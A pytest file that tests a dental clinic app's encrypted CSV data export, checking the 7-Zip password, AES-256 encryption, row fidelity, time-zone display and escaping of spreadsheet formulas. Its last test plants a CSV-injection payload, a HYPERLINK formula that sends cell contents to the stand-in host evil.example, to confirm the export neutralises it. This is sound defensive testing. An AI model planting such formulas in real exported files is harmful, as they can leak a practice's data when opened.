"""The data download file: a real 7-Zip opens it with the right password only, and its
CSV files hold the practice's rows exactly as the database has them."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from app.core.ids import new_id
from app.core.money import from_wire
from cloud.export import csvzip
from cloud.models import Record
from tests.unit.cloud.portal.support import DAY, Clinic

PASSWORD = "Zahn-Ärztin 2026!"  # case, spaces and a non-ASCII letter: all count
SEVEN_ZIP = shutil.which("7z")
pytestmark = pytest.mark.skipif(SEVEN_ZIP is None, reason="7z (p7zip-full) is not installed "
                                "(scripts/setup.sh installs it)")


def _more(clinic: Clinic) -> dict[str, str]:
    """Beyond the seed: a note, a payment known only by its agreement, a deleted visit,
    a patient merged into Ann (his visit is Ann's now), a deleted patient, a doctor."""
    pc = clinic.pc
    ann, ben = clinic.patients["Ann"], clinic.patients["Ben"]
    doctor, merged, gone, deleted_visit = new_id(), new_id(), new_id(), new_id()
    merged_visit = new_id()
    pc.push(
        pc.mutation("user", doctor, {"username": "dr.silva", "display_name": "Dr Silva",
                                     "role": "member", "active": True,
                                     "password_hash": "$argon2id$v=19$m=1024,t=1,p=1$"
                                                      "c2FsdHNhbHQ$aGFzaGhhc2hoYXNoaGFzaA"}),
        pc.mutation("note", new_id(), {"patient_id": ben, "body": 'Said "ouch", then:\nfine',
                                       "author": "Dr Who", "created_at": f"{DAY}T10:15:00Z"}),
        pc.mutation("visit", deleted_visit, {"patient_id": ann, "visit_date": DAY,
                                             "procedure": "typo"}),
        pc.mutation("patient", merged, {"first_name": "Anne", "last_name": "Lee",
                                        "gender": "female"}),
        pc.mutation("visit", merged_visit, {"patient_id": merged, "visit_date": "2025-01-02",
                                            "procedure": "Scaling, polish", "charge": "123.45",
                                            "doctor_id": doctor, "bill_insurance": True}),
        pc.mutation("patient", gone, {"first_name": "Gone", "gender": "male"}),
        pc.mutation("scan_ticket", new_id(), {"patient_id": ben, "scan_type": "face",
                                              "case_type": "Aligners", "status": "scanned",
                                              "doctor_id": doctor}),
        pc.mutation("lab_case", new_id(), {"patient_id": ann, "lab_name": "Crown Works",
                                           "case_type": "Crown", "status": "shipped",
                                           "status_note": "Courier at 2"}),
        pc.mutation("visit", new_id(), {"patient_id": gone, "visit_date": DAY}),
    )
    pc.push(pc.mutation("visit", deleted_visit, {"deleted": True}),
            pc.mutation("patient", merged, {"merged_into": ann}),
            pc.mutation("patient", gone, {"deleted": True}))
    return {"merged": merged, "gone": gone, "deleted_visit": deleted_visit,
            "merged_visit": merged_visit}


def _make(client: TestClient, clinic: Clinic, dest: Path) -> csvzip.Made:
    with client.app.state.sessionmaker() as session:  # type: ignore[attr-defined]
        return csvzip.write(session, clinic.iid, dest, PASSWORD)


def _db(client: TestClient, iid: str, entity: str) -> dict[str, dict[str, Any]]:
    with client.app.state.sessionmaker() as session:  # type: ignore[attr-defined]
        return {r.entity_id: r.fields for r in session.scalars(select(Record).where(
            Record.installation_id == iid, Record.entity == entity))}


def _7z(zip_path: Path, password: str, out: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([SEVEN_ZIP or "7z", "x", "-y", f"-p{password}", f"-o{out}",
                           str(zip_path)], capture_output=True, text=True, timeout=60)


def _csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name} has no UTF-8 byte order mark"
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _money(value: str | None) -> str:
    return "" if value is None else str(from_wire(value))


def test_7zip_opens_it_with_the_password_and_the_rows_are_the_databases(
        client: TestClient, clinic: Clinic, tmp_path: Path) -> None:
    extra = _more(clinic)
    made = _make(client, clinic, tmp_path / "download.zip")

    wrong = _7z(tmp_path / "download.zip", "zahn-ärztin 2026!", tmp_path / "wrong")
    assert wrong.returncode != 0
    assert "Wrong password" in wrong.stdout + wrong.stderr
    listing = subprocess.run([SEVEN_ZIP or "7z", "l", "-slt", f"-p{PASSWORD}",
                              str(tmp_path / "download.zip")], capture_output=True, text=True)
    assert "Method = AES-256" in listing.stdout
    assert "Encrypted = -" not in listing.stdout  # every entry, README included
    ok = _7z(tmp_path / "download.zip", PASSWORD, tmp_path / "out")
    assert ok.returncode == 0, ok.stdout + ok.stderr
    out = tmp_path / "out"
    assert sorted(p.name for p in out.iterdir()) == [
        "README.txt", "agreements.csv", "appointments.csv", "lab_cases.csv", "notes.csv",
        "patients.csv", "payments.csv", "scan_tickets.csv", "treatments.csv"]

    patients = _db(client, clinic.iid, "patient")
    live = {i: f for i, f in patients.items() if not f.get("deleted")
            and not f.get("merged_into")}
    rows = _csv(out / "patients.csv")
    assert {r["patient_id"] for r in rows} == set(live) and len(rows) == len(live) == 3
    for r in rows:
        f = live[r["patient_id"]]
        assert (r["first_name"], r["last_name"], r["birth_date"], r["mobile"],
                r["card_number"], r["diseases"], r["medications"], r["allergies"]) == (
            f["first_name"], f["last_name"], f["birth_date"], f["mobile"],
            f["card_number"], f["diseases"], f["medications"], f["allergies"])

    ann = clinic.patients["Ann"]
    visits = {i: f for i, f in _db(client, clinic.iid, "visit").items()
              if not f.get("deleted") and f["patient_id"] != extra["gone"]}
    rows = _csv(out / "treatments.csv")
    assert [r["treatment_id"] for r in rows] == sorted(visits)  # one row each, in id order
    for r in rows:
        f = visits[r["treatment_id"]]
        owner = ann if f["patient_id"] == extra["merged"] else f["patient_id"]
        assert r["patient_id"] == owner
        assert r["patient_name"] == f'{live[owner]["last_name"]}, {live[owner]["first_name"]}'
        assert (r["visit_date"], r["procedures"], r["amount_paid"], r["charge"]) == (
            f["visit_date"], f.get("procedure") or "", _money(f.get("amount_paid")),
            _money(f.get("charge")))
    merged_row = next(r for r in rows if r["treatment_id"] == extra["merged_visit"])
    assert (merged_row["doctor"], merged_row["bill_insurance"], merged_row["charge"]) == (
        "Dr Silva", "yes", "123.45")

    appts = _db(client, clinic.iid, "appointment")
    rows = _csv(out / "appointments.csv")
    assert {r["appointment_id"] for r in rows} == set(appts) and len(rows) == 3
    for r in rows:
        f = appts[r["appointment_id"]]
        # the seed's practice is on UTC: the stored moment is the shown one
        assert r["starts_at"] == f["starts_at"][:16].replace("T", " ")
        assert (r["status"], r["reason"], r["duration_minutes"]) == (
            f["status"], f["reason"], str(f["duration_minutes"]))

    agreements = _db(client, clinic.iid, "agreement")
    rows = _csv(out / "agreements.csv")
    assert {r["agreement_id"] for r in rows} == set(agreements)
    for r in rows:
        f = agreements[r["agreement_id"]]
        assert (r["patient_id"], r["title"], r["total"], r["discount"], r["tax"]) == (
            f["patient_id"], f["title"], _money(f["total"]), _money(f["discount"]),
            _money(f["tax"]))
    payments = _db(client, clinic.iid, "payment")
    rows = _csv(out / "payments.csv")
    assert {r["payment_id"] for r in rows} == set(payments) and len(rows) == 3
    for r in rows:  # the seed's payments name only their agreement: the patient is its
        f = payments[r["payment_id"]]
        assert r["patient_id"] == agreements[f["agreement_id"]]["patient_id"]
        assert (r["paid_on"], r["amount"]) == (f["paid_on"], _money(f["amount"]))

    (note,) = _csv(out / "notes.csv")
    assert (note["patient_name"], note["text"], note["written_at"]) == (
        "Ray, Ben", 'Said "ouch", then:\nfine', f"{DAY} 10:15")

    (ticket,) = _csv(out / "scan_tickets.csv")
    assert (ticket["patient_name"], ticket["scan"], ticket["case_type"], ticket["doctor"],
            ticket["status"]) == ("Ray, Ben", "face", "Aligners", "Dr Silva", "scanned")
    (case,) = _csv(out / "lab_cases.csv")
    assert (case["lab"], case["case_type"], case["status"], case["lab_note"]) == (
        "Crown Works", "Crown", "shipped", "Courier at 2")

    readme = (out / "README.txt").read_text(encoding="utf-8-sig")
    assert "Images (X-rays, scans, photos) and other files are NOT included." in readme
    for name in ("treatments.csv", "appointments.csv", "patients.csv", "scan_tickets.csv",
                 "lab_cases.csv"):
        header = (out / name).read_text(encoding="utf-8-sig").splitlines()[0].split(",")
        for column in header:  # every column is explained
            assert f"  {column} " in readme, f"{name}: {column} is not in the README"
    assert made.rows["treatments.csv"] == len(visits)
    assert made.size == (tmp_path / "download.zip").stat().st_size
    assert not list(tmp_path.glob("*.part"))


def test_moments_are_the_practices_clock(client: TestClient, clinic: Clinic,
                                         tmp_path: Path) -> None:
    """Moments are stored in UTC and shown in the practice's zone, summer time included."""
    clinic.api("PATCH", "/settings", json={"time_zone": "America/New_York"})
    pc, ann = clinic.pc, clinic.patients["Ann"]
    local = new_id()
    pc.push(pc.mutation("appointment", local, {
        "patient_id": ann, "starts_at": "2026-07-01T13:00:00Z", "duration_minutes": 20,
        "status": "booked"}))
    _make(client, clinic, tmp_path / "d.zip")
    assert _7z(tmp_path / "d.zip", PASSWORD, tmp_path / "o").returncode == 0
    shown = {r["appointment_id"]: r["starts_at"] for r in _csv(tmp_path / "o" / "appointments.csv")}
    assert shown[local] == "2026-07-01 09:00"
    # the seed's Ann at 08:00 UTC on 14 March is 04:00 in New York (daylight time)
    assert f"{DAY} 04:00" in shown.values()


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(
        client: TestClient, clinic: Clinic, tmp_path: Path) -> None:
    """A name typed as a formula must not run when the practice opens the file; numbers
    (a refund's negative amount) and ordinary text stay as they were."""
    pc = clinic.pc
    hostile, visit = new_id(), new_id()
    pc.push(
        pc.mutation("patient", hostile, {
            "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "last_name": "@SUM(1+1)", "mobile": "+961 3 123 456", "gender": "male"}),
        pc.mutation("visit", visit, {"patient_id": hostile, "visit_date": DAY,
                                     "procedure": "-Extraction", "charge": "-20.00"}),
    )
    _make(client, clinic, tmp_path / "d.zip")
    assert _7z(tmp_path / "d.zip", PASSWORD, tmp_path / "o").returncode == 0
    (row,) = [r for r in _csv(tmp_path / "o" / "patients.csv") if r["patient_id"] == hostile]
    assert row["first_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert (row["last_name"], row["mobile"]) == ("'@SUM(1+1)", "'+961 3 123 456")
    (treatment,) = [r for r in _csv(tmp_path / "o" / "treatments.csv")
                    if r["treatment_id"] == visit]
    assert (treatment["procedures"], treatment["charge"]) == ("'-Extraction", "-20.00")
    assert treatment["patient_name"] == "'@SUM(1+1), =HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    readme = (tmp_path / "o" / "README.txt").read_text(encoding="utf-8-sig")
    assert "never runs it as a formula" in readme
